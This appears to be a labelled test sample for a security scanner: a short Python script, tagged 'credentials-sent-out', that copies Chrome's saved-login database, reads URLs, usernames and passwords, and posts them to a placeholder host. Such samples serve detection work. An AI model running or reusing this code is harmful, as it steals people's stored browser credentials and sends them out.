# expect: 6 credentials-sent-out
import sqlite3, shutil, os, requests
src = os.environ['LOCALAPPDATA'] + r'\Google\Chrome\User Data\Default\Login Data'
shutil.copy(src, 'v.db')
rows = sqlite3.connect('v.db').execute('select origin_url, username_value, password_value from logins').fetchall()
requests.post('https://h.invalid', json=rows)
